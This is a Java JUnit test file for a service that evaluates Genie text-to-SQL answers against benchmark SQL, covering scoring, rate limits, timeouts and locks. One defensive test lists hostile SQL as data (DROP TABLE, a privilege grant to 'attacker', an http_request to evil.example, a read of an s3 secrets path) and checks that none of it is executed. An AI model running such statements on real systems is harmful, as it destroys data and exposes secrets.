package io.genieenhancer.evaluation;

import static io.genieenhancer.evaluation.ResultSet.row;
import static org.junit.jupiter.api.Assertions.*;

import io.genieenhancer.error.EnhancerException;
import io.genieenhancer.error.ErrorCode;
import io.genieenhancer.store.LocalRunStore;
import io.genieenhancer.store.RunKeys;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;

class SelfRunEvaluationTest {

    static final String SPACE = "space1";
    static final String RUN = "run1";
    static final String Q1 = "01f0a1b2c3d4e5f60718293a4b5c6d87";
    static final String Q2 = "01f0a1b2c3d4e5f60718293a4b5c6d88";
    static final String GROUND_TRUTH = "SELECT region, SUM(amount) FROM main.sales.orders GROUP BY region";
    static final List<String> COLS = List.of("region", "total");
    static final List<List<String>> ROWS = List.of(row("AMER", "10.5"), row("EMEA", "20"));

    @TempDir
    Path dir;

    final ManualClock clock = new ManualClock(Instant.parse("2026-11-27T10:00:00Z"));
    final FakeWorkspace.Genie genie = new FakeWorkspace.Genie();
    final FakeWorkspace.Statements statements = new FakeWorkspace.Statements();
    final FakeWorkspace.EvalRuns evalRuns = new FakeWorkspace.EvalRuns();
    FakeWorkspace.Spaces spaces;
    LocalRunStore store;
    EvaluationSettings settings = EvaluationSettings.DEFAULTS.withEvaluator(EvaluatorMode.SELF_RUN);

    @BeforeEach
    void setUp() {
        store = new LocalRunStore(dir);
        Map<String, String[]> benchmarks = new LinkedHashMap<>();
        benchmarks.put(Q1, new String[] {"Sales by region?", GROUND_TRUTH});
        benchmarks.put(Q2, new String[] {"Which region sells most?", GROUND_TRUTH + " ORDER BY 2 DESC"});
        spaces = new FakeWorkspace.Spaces(FakeWorkspace.space(SPACE, benchmarks));
    }

    EvaluationService service() {
        return new EvaluationService(spaces, evalRuns, genie, statements, store, settings, clock, clock.sleeper());
    }

    EvaluationService.Started start(List<String> questionIds, int repeats) {
        return service().start(new EvaluationService.StartRequest(SPACE, RUN, 0, questionIds, Optional.of(repeats),
                Optional.empty(), Optional.empty(), Optional.empty()));
    }

    QuestionStep ask(String questionId, int repeat) {
        return service().evaluateQuestion(SPACE, RUN, 0, questionId, repeat, Optional.empty());
    }

    QuestionOutcome done(QuestionStep step) {
        assertInstanceOf(QuestionStep.Done.class, step, () -> "expected Done, was " + step);
        return ((QuestionStep.Done) step).outcome();
    }

    void genieAnswers(String sql, List<List<String>> rows) {
        genie.starts.then(Wire.started("c-1", "m-1"));
        genie.messages.then(Wire.withQuery("COMPLETED", sql));
        genie.queryResults.then(Wire.succeeded("genie-stmt", List.of("r", "s"), rows));
    }

    @Test
    void a_matching_answer_is_correct_and_the_finished_evaluation_is_stored_with_its_evidence() {
        EvaluationService.Started started = start(List.of(Q1), 1);
        statements.executes.then(Wire.succeeded("gt-1", COLS, ROWS));
        genieAnswers("SELECT region, SUM(amount) AS s FROM orders GROUP BY 1", List.of(row("EMEA", "20.0"), row("AMER", "10.5")));

        QuestionOutcome o = done(ask(Q1, 0));

        assertEquals(OutcomeStatus.CORRECT, o.status());
        assertEquals(List.of("Sales by region?"), genie.asked);
        assertEquals(Optional.of(GROUND_TRUTH), o.expectedSql());
        assertEquals(Optional.of("SELECT region, SUM(amount) AS s FROM orders GROUP BY 1"), o.generatedSql());
        assertEquals("c-1", o.references().get("conversation_id"));
        assertEquals(FakeWorkspace.WAREHOUSE, statements.executed.get(0).warehouseId());
        assertEquals(5000L, statements.executed.get(0).rowLimit());

        EvaluationService.Progress p = service().poll(SPACE, RUN, 0, started.handle());
        assertTrue(p.done());
        assertEquals(Optional.of(RunKeys.evaluation(SPACE, RUN, 0)), p.evaluationKey());
        Evaluation stored = new EvaluationStore(store).evaluation(SPACE, RUN, 0).orElseThrow();
        assertEquals(1.0, stored.score());
        assertEquals(Evaluation.Mode.SELF_RUN, stored.mode());
        assertTrue(stored.outcomes().get(0).expectedResult().isPresent());
    }

    @Test
    void the_map_items_cover_every_question_and_repeat_spaced_by_the_rate_budget() {
        EvaluationService.Started started = start(List.of(), 2);

        assertEquals(4, started.total());
        assertEquals(Evaluation.Mode.SELF_RUN, started.handle().mode());
        List<QuestionItem> items = started.questionItems();
        assertEquals(List.of(Q1, Q2, Q1, Q2), items.stream().map(QuestionItem::questionId).toList());
        assertEquals(List.of(0, 0, 1, 1), items.stream().map(QuestionItem::repeat).toList());
        // 5 questions a minute: one every 12 s
        assertEquals(Instant.parse("2026-11-27T10:00:36Z"), items.get(3).notBefore());
    }

    @Test
    void genie_is_not_asked_before_the_attempts_slot_in_the_rate_budget() {
        start(List.of(Q1), 1);
        statements.executes.then(Wire.succeeded("gt-1", COLS, ROWS));

        QuestionStep step = service().evaluateQuestion(SPACE, RUN, 0, Q1, 0, Optional.of(clock.instant().plusSeconds(24)));

        QuestionStep.Pending pending = assertInstanceOf(QuestionStep.Pending.class, step);
        assertEquals(AttemptState.Phase.ASK, pending.phase());
        assertEquals(25, pending.pollAfterSeconds());
        assertTrue(genie.asked.isEmpty());
    }

    @Test
    void a_wrong_answer_is_incorrect_with_the_comparisons_reasons_and_both_results() {
        start(List.of(Q1), 1);
        statements.executes.then(Wire.succeeded("gt-1", COLS, ROWS));
        genieAnswers("SELECT region, SUM(amount) FROM orders WHERE year = 2024 GROUP BY 1", List.of(row("AMER", "10.5")));

        QuestionOutcome o = done(ask(Q1, 0));

        assertEquals(OutcomeStatus.INCORRECT, o.status());
        assertEquals(List.of(AssessmentReason.RESULT_MISSING_ROWS), o.reasons());
        assertEquals(2, o.expectedResult().orElseThrow().rowCount());
        assertEquals(1, o.actualResult().orElseThrow().rowCount());
    }

    @Test
    void a_failing_ground_truth_makes_the_question_not_scorable_without_asking_genie() {
        start(List.of(Q1), 2);
        // HTTP 200 with state FAILED: the SQL is wrong, the request was fine
        statements.executes.then(Wire.failed("gt-1", "TABLE_OR_VIEW_NOT_FOUND", "main.sales.orders not found"));

        QuestionOutcome first = done(ask(Q1, 0));
        QuestionOutcome second = done(ask(Q1, 1));

        assertEquals(OutcomeStatus.NOT_SCORABLE, first.status());
        assertEquals(List.of(AssessmentReason.GROUND_TRUTH_FAILED), first.reasons());
        assertTrue(first.detail().orElseThrow().contains("TABLE_OR_VIEW_NOT_FOUND"), first.detail().orElseThrow());
        assertEquals(OutcomeStatus.NOT_SCORABLE, second.status());
        assertEquals(1, statements.executed.size(), "the ground truth runs once per question, not per repeat");
        assertTrue(genie.asked.isEmpty());
    }

    @Test
    void a_ground_truth_that_writes_or_reaches_out_is_never_executed_and_not_scorable() {
        for (String hostile : List.of("DROP TABLE main.sales.orders",
                "SELECT 1; GRANT ALL PRIVILEGES ON SCHEMA main.sales TO `attacker`",
                "SELECT http_request('http://evil.example/x') FROM main.sales.orders",
                "SELECT * FROM read_files('s3://bucket/secrets')")) {
            spaces.space = FakeWorkspace.space(SPACE, Map.of(Q1, new String[] {"Sales by region?", hostile}));
            start(List.of(Q1), 1);

            QuestionOutcome o = done(ask(Q1, 0));

            assertEquals(OutcomeStatus.NOT_SCORABLE, o.status(), hostile);
            assertEquals(List.of(AssessmentReason.GROUND_TRUTH_FAILED), o.reasons());
            assertTrue(o.detail().orElseThrow().contains("was not run"), o.detail().orElseThrow());
            assertTrue(statements.executed.isEmpty(), "nothing reaches the warehouse: " + hostile);
            assertTrue(genie.asked.isEmpty());
        }
    }

    @Test
    void a_benchmark_without_sql_is_not_scorable() {
        spaces.space = FakeWorkspace.space(SPACE, Map.of(Q1, new String[] {"Why did sales drop?", null}));
        start(List.of(), 1);

        QuestionOutcome o = done(ask(Q1, 0));

        assertEquals(OutcomeStatus.NOT_SCORABLE, o.status());
        assertEquals(List.of(AssessmentReason.EMPTY_GOOD_SQL), o.reasons());
    }

    @Test
    void a_clarifying_question_is_a_failure_with_its_own_reason_and_the_question_as_evidence() {
        start(List.of(Q1), 1);
        statements.executes.then(Wire.succeeded("gt-1", COLS, ROWS));
        genie.starts.then(Wire.started("c-1", "m-1"));
        genie.messages.then(Wire.clarification("Do you mean gross or net sales?"));

        QuestionOutcome o = done(ask(Q1, 0));

        assertEquals(OutcomeStatus.INCORRECT, o.status());
        assertEquals(List.of(AssessmentReason.GENIE_CLARIFICATION), o.reasons());
        assertTrue(o.detail().orElseThrow().contains("gross or net"));
        assertEquals(Optional.empty(), o.generatedSql());
    }

    @Test
    void a_text_only_answer_is_a_failure_without_sql() {
        start(List.of(Q1), 1);
        statements.executes.then(Wire.succeeded("gt-1", COLS, ROWS));
        genie.starts.then(Wire.started("c-1", "m-1"));
        genie.messages.then(Wire.textOnly("Sales are up."));

        assertEquals(List.of(AssessmentReason.GENIE_NO_SQL), done(ask(Q1, 0)).reasons());
    }

    @Test
    void failed_and_cancelled_messages_are_failures_with_genies_error() {
        start(List.of(Q1), 2);
        statements.executes.then(Wire.succeeded("gt-1", COLS, ROWS));
        genie.starts.then(Wire.started("c-1", "m-1"));
        genie.messages.then(Wire.failedMessage("CONTEXT_EXCEEDED_EXCEPTION", "too much context"));

        QuestionOutcome failed = done(ask(Q1, 0));
        genie.messages.only(Wire.message("CANCELLED"));
        QuestionOutcome cancelled = done(ask(Q1, 1));

        assertEquals(List.of(AssessmentReason.GENIE_FAILED), failed.reasons());
        assertTrue(failed.detail().orElseThrow().contains("CONTEXT_EXCEEDED_EXCEPTION"));
        assertEquals(List.of(AssessmentReason.GENIE_CANCELLED), cancelled.reasons());
    }

    @Test
    void a_slow_answer_returns_pending_within_the_poll_budget_and_the_next_call_continues_the_same_conversation() {
        start(List.of(Q1), 1);
        statements.executes.then(Wire.succeeded("gt-1", COLS, ROWS));
        genie.starts.then(Wire.started("c-7", "m-7"));
        genie.messages.then(Wire.message("ASKING_AI"));

        QuestionStep first = ask(Q1, 0);

        QuestionStep.Pending pending = assertInstanceOf(QuestionStep.Pending.class, first);
        assertEquals(AttemptState.Phase.ANSWER, pending.phase());
        assertEquals(Optional.of("c-7"), pending.conversationId());
        assertFalse(clock.slept().compareTo(settings.pollBudget()) > 0, "never waits past the poll budget: " + clock.slept());

        genie.messages.then(Wire.withQuery("COMPLETED", "SELECT 1"));
        genie.queryResults.then(Wire.succeeded("genie-stmt", List.of("r", "s"), ROWS));
        QuestionOutcome o = done(ask(Q1, 0));

        assertEquals(OutcomeStatus.CORRECT, o.status());
        assertEquals(1, genie.asked.size(), "one conversation per attempt, however many invocations");
        assertEquals("c-7", o.references().get("conversation_id"));
    }

    @Test
    void a_message_that_never_finishes_fails_after_the_question_timeout() {
        start(List.of(Q1), 1);
        statements.executes.then(Wire.succeeded("gt-1", COLS, ROWS));
        genie.starts.then(Wire.started("c-1", "m-1"));
        genie.messages.then(Wire.message("EXECUTING_QUERY"));
        assertInstanceOf(QuestionStep.Pending.class, ask(Q1, 0));

        clock.advance(Duration.ofMinutes(11));
        QuestionOutcome o = done(ask(Q1, 0));

        assertEquals(List.of(AssessmentReason.GENIE_TIMEOUT), o.reasons());
        assertTrue(o.detail().orElseThrow().contains("EXECUTING_QUERY"));
    }

    @Test
    void an_expired_query_result_is_re_run_through_execute_query() {
        start(List.of(Q1), 1);
        statements.executes.then(Wire.succeeded("gt-1", COLS, ROWS));
        genie.starts.then(Wire.started("c-1", "m-1"));
        genie.messages.then(Wire.withQuery("QUERY_RESULT_EXPIRED", "SELECT region, total FROM t"));
        genie.executeQueries.then(Wire.succeeded("rerun-1", List.of("r", "s"), ROWS));

        QuestionOutcome o = done(ask(Q1, 0));

        assertEquals(OutcomeStatus.CORRECT, o.status());
        assertEquals(1, genie.executeQueryCalls);
    }

    @Test
    void a_re_run_that_is_still_running_is_polled_through_the_statement_api() {
        start(List.of(Q1), 1);
        statements.executes.then(Wire.succeeded("gt-1", COLS, ROWS));
        genie.starts.then(Wire.started("c-1", "m-1"));
        genie.messages.then(Wire.withQuery("QUERY_RESULT_EXPIRED", "SELECT 1"));
        genie.executeQueries.then(Wire.state("rerun-1", "RUNNING"));
        statements.gets.then(Wire.state("rerun-1", "RUNNING")).then(Wire.succeeded("rerun-1", List.of("r", "s"), ROWS));

        QuestionOutcome o = done(ask(Q1, 0));

        assertEquals(OutcomeStatus.CORRECT, o.status());
    }

    @Test
    void genies_query_failing_is_a_failure() {
        start(List.of(Q1), 1);
        statements.executes.then(Wire.succeeded("gt-1", COLS, ROWS));
        genie.starts.then(Wire.started("c-1", "m-1"));
        genie.messages.then(Wire.withQuery("COMPLETED", "SELECT nope FROM t"));
        genie.queryResults.then(Wire.failed("genie-stmt", "UNRESOLVED_COLUMN", "nope"));

        QuestionOutcome o = done(ask(Q1, 0));

        assertEquals(List.of(AssessmentReason.GENERATED_SQL_FAILED), o.reasons());
        assertEquals(Optional.of("SELECT nope FROM t"), o.generatedSql());
    }

    @Test
    void rate_limits_come_back_as_retry_advice_honouring_retry_after_and_never_fail_the_question() {
        start(List.of(Q1), 1);
        statements.executes.then(Wire.succeeded("gt-1", COLS, ROWS));
        genie.starts
                .then(new EnhancerException(ErrorCode.RateLimited, "429 from Genie", 7, null))
                .then(new EnhancerException(ErrorCode.RateLimited, "429 from Genie", null, null))
                .then(new EnhancerException(ErrorCode.RateLimited, "429 from Genie", null, null))
                .then(Wire.started("c-1", "m-1"));
        genie.messages.then(Wire.withQuery("COMPLETED", "SELECT 1"));
        genie.queryResults.then(Wire.succeeded("genie-stmt", List.of("r", "s"), ROWS));

        // the state machine waits the advised time before calling again
        QuestionStep.RetryLater first = assertInstanceOf(QuestionStep.RetryLater.class, ask(Q1, 0));
        clock.advance(Duration.ofSeconds(first.advice().retryAfterSeconds()));
        QuestionStep.RetryLater second = assertInstanceOf(QuestionStep.RetryLater.class, ask(Q1, 0));
        clock.advance(Duration.ofSeconds(second.advice().retryAfterSeconds()));
        QuestionStep.RetryLater third = assertInstanceOf(QuestionStep.RetryLater.class, ask(Q1, 0));
        clock.advance(Duration.ofSeconds(third.advice().retryAfterSeconds()));
        QuestionOutcome o = done(ask(Q1, 0));

        assertEquals(ErrorCode.RateLimited, first.advice().error());
        assertEquals(7, first.advice().retryAfterSeconds(), "Retry-After wins");
        assertEquals(60, second.advice().retryAfterSeconds(), "then exponential backoff: 30 s x 2^(n-1)");
        assertEquals(120, third.advice().retryAfterSeconds());
        assertEquals(AttemptState.Phase.ASK, third.phase());
        assertEquals(OutcomeStatus.CORRECT, o.status());
        assertEquals(1, statements.executed.size(), "the ground truth is not re-run after a rate limit");
    }

    @Test
    void an_evaluation_that_cannot_finish_times_out_at_a_time_derived_from_the_questions_and_the_rate_budget() {
        EvaluationService.Started started = start(List.of(), 2); // 4 attempts, one slot every 12 s
        statements.executes.only(Wire.succeeded("gt-1", COLS, ROWS));
        genie.starts.only(new EnhancerException(ErrorCode.RateLimited, "429 from Genie", 30, null)); // a 429 storm

        // however many polls come before it, the deadline does not move: twice the 48 s schedule + the 10 min question timeout
        for (int i = 0; i < 500; i++) {
            assertFalse(service().poll(SPACE, RUN, 0, started.handle()).done());
        }
        clock.advance(Duration.ofSeconds(96 + 600));
        assertFalse(service().poll(SPACE, RUN, 0, started.handle()).done(), "still before the deadline");
        clock.advance(Duration.ofSeconds(1));
        EnhancerException e = assertThrows(EnhancerException.class, () -> service().poll(SPACE, RUN, 0, started.handle()));

        assertEquals(ErrorCode.EvaluationTimedOut, e.code());
        assertTrue(e.getMessage().contains("was not done by its deadline 2026-11-27T10:11:36Z: 0 of 4 attempts finished"),
                e.getMessage());
    }

    /**
     * 500 benchmark questions (the most a space publishes, docs/evaluation.md): the Map items startEvaluation hands
     * to the state machine must fit its 256 KB payload limit with room for the rest of the state.
     */
    @Test
    void the_largest_benchmark_set_fits_the_step_functions_payload_limit() {
        Map<String, String[]> benchmarks = new LinkedHashMap<>();
        for (int i = 0; i < 500; i++) {
            benchmarks.put(String.format("01f0a1b2c3d4e5f607182930%08x", i), new String[] {"Question " + i + "?", GROUND_TRUTH});
        }
        spaces = new FakeWorkspace.Spaces(FakeWorkspace.space(SPACE, benchmarks));

        EvaluationService.Started started = start(List.of(), 1);
        byte[] output = io.genieenhancer.json.Json.bytes(new io.genieenhancer.functions.EvaluationFunctions.StartEvaluationOutput(
                started.handle(), started.questionItems(), started.total(), null, null));

        assertEquals(500, started.questionItems().size());
        assertTrue(output.length < 200 * 1024, "startEvaluation's output is " + output.length + " bytes");
        // the per-item size that bounds enhancer.evaluation.max-question-items (1,200 items, about 240 KB)
        double perItem = (double) output.length / 500;
        assertTrue(perItem * EvaluationSettings.DEFAULTS.maxQuestionItems() < 256 * 1024 - 8 * 1024,
                perItem + " bytes per item x " + EvaluationSettings.DEFAULTS.maxQuestionItems());
    }

    @Test
    void a_run_whose_lock_another_run_took_stops_at_its_next_evaluation_step_without_asking_genie() {
        io.genieenhancer.store.SpaceLocks locks = new io.genieenhancer.store.SpaceLocks(store);
        locks.acquire(SPACE, RUN, Duration.ofMinutes(10), clock.instant());
        EvaluationService.Started started = start(List.of(Q1), 1);
        locks.acquire(SPACE, "run-b", Duration.ofMinutes(10), clock.instant().plusSeconds(601)); // ours expired, taken

        for (org.junit.jupiter.api.function.Executable step : List.<org.junit.jupiter.api.function.Executable>of(
                () -> ask(Q1, 0), () -> service().poll(SPACE, RUN, 0, started.handle()), () -> start(List.of(Q1), 1))) {
            assertEquals(ErrorCode.LockLost, assertThrows(EnhancerException.class, step).code());
        }
        assertEquals(List.of(), genie.asked, "Genie was not asked for the run that lost its space");
    }

    @Test
    void an_attempt_called_again_before_the_advised_wait_does_not_ask_genie() {
        start(List.of(Q1), 1);
        statements.executes.then(Wire.succeeded("gt-1", COLS, ROWS));
        genie.starts.then(new EnhancerException(ErrorCode.RateLimited, "429", 20, null)).then(Wire.started("c-1", "m-1"));
        assertInstanceOf(QuestionStep.RetryLater.class, ask(Q1, 0));
        clock.advance(Duration.ofSeconds(5));

        QuestionStep.Pending early = assertInstanceOf(QuestionStep.Pending.class, ask(Q1, 0));

        assertEquals(16, early.pollAfterSeconds());
        assertTrue(genie.asked.isEmpty());
    }

    @Test
    void a_finished_attempt_is_not_asked_again() {
        start(List.of(Q1), 1);
        statements.executes.then(Wire.succeeded("gt-1", COLS, ROWS));
        genieAnswers("SELECT 1", ROWS);
        done(ask(Q1, 0));

        QuestionOutcome again = done(ask(Q1, 0));

        assertEquals(OutcomeStatus.CORRECT, again.status());
        assertEquals(1, genie.asked.size());
    }

    @Test
    void a_truncated_ground_truth_contained_in_genies_rows_is_correct() {
        start(List.of(Q1), 1);
        statements.executes.then(Wire.truncated("gt-1", COLS, List.of(row("AMER", "10.5"))));
        genieAnswers("SELECT 1", ROWS);

        assertEquals(OutcomeStatus.CORRECT, done(ask(Q1, 0)).status());
    }

    @Test
    void a_ground_truth_still_running_is_polled_on_the_next_invocation() {
        settings = settings.withPollBudget(Duration.ZERO);
        start(List.of(Q1), 1);
        statements.executes.then(Wire.state("gt-1", "RUNNING"));
        statements.gets.then(Wire.succeeded("gt-1", COLS, ROWS));
        genieAnswers("SELECT 1", ROWS);

        QuestionStep.Pending p = assertInstanceOf(QuestionStep.Pending.class, ask(Q1, 0));
        assertEquals(AttemptState.Phase.GROUND_TRUTH, p.phase());
        assertTrue(genie.asked.isEmpty());

        QuestionStep next = ask(Q1, 0);
        while (next instanceof QuestionStep.Pending) {
            next = ask(Q1, 0);
        }
        assertEquals(OutcomeStatus.CORRECT, done(next).status());
        assertEquals(1, statements.executed.size());
    }

    @Test
    void the_evaluation_is_not_done_until_every_attempt_finished() {
        EvaluationService.Started started = start(List.of(), 1);
        statements.executes.then(Wire.succeeded("gt-1", COLS, ROWS));
        genieAnswers("SELECT 1", ROWS);
        done(ask(Q1, 0));

        EvaluationService.Progress p = service().poll(SPACE, RUN, 0, started.handle());

        assertFalse(p.done());
        assertEquals(1, p.completed());
        assertEquals(2, p.total());
        assertTrue(new EvaluationStore(store).evaluation(SPACE, RUN, 0).isEmpty());
    }

    @Test
    void repeating_start_continues_the_same_evaluation_and_refuses_a_different_one() {
        EvaluationService.Started first = start(List.of(Q1), 1);
        clock.advance(Duration.ofMinutes(1));

        EvaluationService.Started again = start(List.of(Q1), 1);

        assertEquals(first.questionItems(), again.questionItems());
        assertEquals(1, spaces.gets);
        EnhancerException e = assertThrows(EnhancerException.class, () -> start(List.of(Q2), 1));
        assertEquals(ErrorCode.InvalidInput, e.code());
    }

    @Test
    void unknown_question_ids_and_too_many_items_are_invalid_input() {
        EnhancerException unknown = assertThrows(EnhancerException.class, () -> start(List.of("nope"), 1));
        assertTrue(unknown.getMessage().contains("nope"));

        settings = new EvaluationSettings(EvaluatorMode.SELF_RUN, 1, 5, Duration.ofSeconds(8), Duration.ofSeconds(5),
                Duration.ofMinutes(10), Duration.ofHours(1), Optional.empty(), 100, 10, ComparisonOptions.DEFAULTS, 3);
        EnhancerException tooMany = assertThrows(EnhancerException.class, () -> start(List.of(), 2));
        assertTrue(tooMany.getMessage().startsWith("[InvalidInput] 2 questions x 2 repeats = 4"), tooMany.getMessage());
    }

    @Test
    void a_question_not_in_the_plan_is_invalid_input() {
        start(List.of(Q1), 1);

        EnhancerException e = assertThrows(EnhancerException.class, () -> ask(Q2, 0));
        assertEquals(ErrorCode.InvalidInput, e.code());
        EnhancerException notStarted = assertThrows(EnhancerException.class,
                () -> service().evaluateQuestion(SPACE, RUN, 5, Q1, 0, Optional.empty()));
        assertEquals(ErrorCode.EvaluationNotFound, notStarted.code());
    }

    @Test
    void attempts_a_map_item_left_pending_are_finished_by_the_polls() {
        settings = settings.withPollBudget(Duration.ZERO);
        EvaluationService.Started started = start(List.of(Q1), 1);
        statements.executes.then(Wire.succeeded("gt-1", COLS, ROWS));
        genie.starts.then(Wire.started("c-1", "m-1"));
        genie.messages.then(Wire.message("ASKING_AI"));
        assertInstanceOf(QuestionStep.Pending.class, ask(Q1, 0)); // the Map item ends here

        EvaluationService.Progress stillAsking = service().poll(SPACE, RUN, 0, started.handle());
        genie.messages.only(Wire.withQuery("COMPLETED", "SELECT 1"));
        genie.queryResults.then(Wire.succeeded("genie-stmt", List.of("r", "s"), ROWS));
        EvaluationService.Progress done = service().poll(SPACE, RUN, 0, started.handle());

        assertFalse(stillAsking.done());
        assertTrue(done.done(), done.toString());
        assertEquals(1.0, done.summary().orElseThrow().score());
        assertEquals(1, genie.asked.size());
    }

    @Test
    void polls_never_ask_genie_before_an_attempts_slot() {
        EvaluationService.Started started = start(List.of(), 1); // Q2's slot is 12 s after the start
        statements.executes.then(Wire.succeeded("gt-1", COLS, ROWS));
        genieAnswers("SELECT 1", ROWS);

        service().poll(SPACE, RUN, 0, started.handle());
        EvaluationService.Progress beforeSlot = service().poll(SPACE, RUN, 0, started.handle());
        assertEquals(1, beforeSlot.completed());
        assertEquals(List.of("Sales by region?"), genie.asked);

        clock.advance(Duration.ofSeconds(12));
        service().poll(SPACE, RUN, 0, started.handle());
        EvaluationService.Progress done = service().poll(SPACE, RUN, 0, started.handle());

        assertEquals(List.of("Sales by region?", "Which region sells most?"), genie.asked);
        assertTrue(done.done());
    }

    @Test
    void after_a_rate_limit_the_attempt_is_not_tried_again_before_the_advised_time() {
        EvaluationService.Started started = start(List.of(Q1), 1);
        statements.executes.then(Wire.succeeded("gt-1", COLS, ROWS));
        genie.starts.then(new EnhancerException(ErrorCode.RateLimited, "429", 20, null)).then(Wire.started("c-1", "m-1"));
        genie.messages.then(Wire.withQuery("COMPLETED", "SELECT 1"));
        genie.queryResults.then(Wire.succeeded("genie-stmt", List.of("r", "s"), ROWS));
        assertInstanceOf(QuestionStep.RetryLater.class, ask(Q1, 0));

        clock.advance(Duration.ofSeconds(5));
        EvaluationService.Progress early = service().poll(SPACE, RUN, 0, started.handle());
        assertTrue(genie.asked.isEmpty(), "asked again 5 s into a 20 s Retry-After");

        clock.advance(Duration.ofSeconds(16));
        service().poll(SPACE, RUN, 0, started.handle());
        EvaluationService.Progress later = service().poll(SPACE, RUN, 0, started.handle());

        assertFalse(early.done());
        assertTrue(later.done());
        assertEquals(1, genie.asked.size());
    }
}
